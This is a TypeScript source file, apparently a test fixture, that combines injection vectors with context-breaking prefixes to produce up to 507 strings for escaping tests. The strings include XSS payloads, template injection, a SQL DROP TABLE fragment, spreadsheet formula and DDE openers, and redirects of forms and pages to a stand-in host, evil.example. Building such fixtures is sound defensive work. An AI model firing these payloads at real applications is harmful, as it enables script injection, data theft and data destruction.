/**
 * Texts that would run, or become an element, a formula or a query, where one is shown unescaped. An element that comes of
 * one bears the attribute `inj`.
 */
const VECTORS = [
  '<img inj src=x onerror=alert(1)>',
  '<svg inj onload=alert(1)>',
  '<script inj>alert(1)</script>',
  '<ScRiPt inj>alert(1)</sCrIpT>',
  '<a inj href=javascript:alert(1)>x</a>',
  '<iframe inj src=javascript:alert(1)>',
  '<details inj open ontoggle=alert(1)>',
  '<body inj onload=alert(1)>',
  '<style inj>*{display:none}</style>',
  '<base inj href=//evil.example/>',
  '<form inj action=//evil.example><button>x',
  '<math inj><mi xlink:href=javascript:alert(1)>x',
  '<meta inj http-equiv=refresh content=0;url=//evil.example>',
  ' inj onmouseover=alert(1) autofocus onfocus=alert(1) x=',
  '<inj inj=1>',
  '&lt;img inj src=x onerror=alert(1)&gt;',
  '%3Cscript%20inj%3Ealert(1)%3C/script%3E',
  '\\u003cscript inj\\u003ealert(1)\\u003c/script\\u003e',
  '＜script inj＞alert(1)＜/script＞',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '; DROP TABLE orders; --',
] as const;

/** What may stand before: ways out of an attribute, an element or a script, and what spreadsheets take for a formula. */
const OPENINGS = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  ']]>',
  '*/',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</option></select>',
  '</pre>',
  '</svg>',
  '=cmd|',
  '=',
  '+',
  '-',
  '@SUM(',
  '=HYPERLINK("//evil.example")',
  'javascript:',
] as const;

const ALL = VECTORS.flatMap((vector, index) =>
  OPENINGS.map((opening, nth) => ({ text: opening + vector, place: (index * 7 + nth * 11) % 31 })),
)
  .sort((one, other) => one.place - other.place)
  .map(({ text }) => text);

/** Breaks out of most places at once. */
const FIRST = `'"></title></textarea><img inj src=x onerror=alert(1)>`;

/** So many of them, 507 at the most. */
export function injections(count: number): readonly string[] {
  return [FIRST, ...ALL].slice(0, count);
}
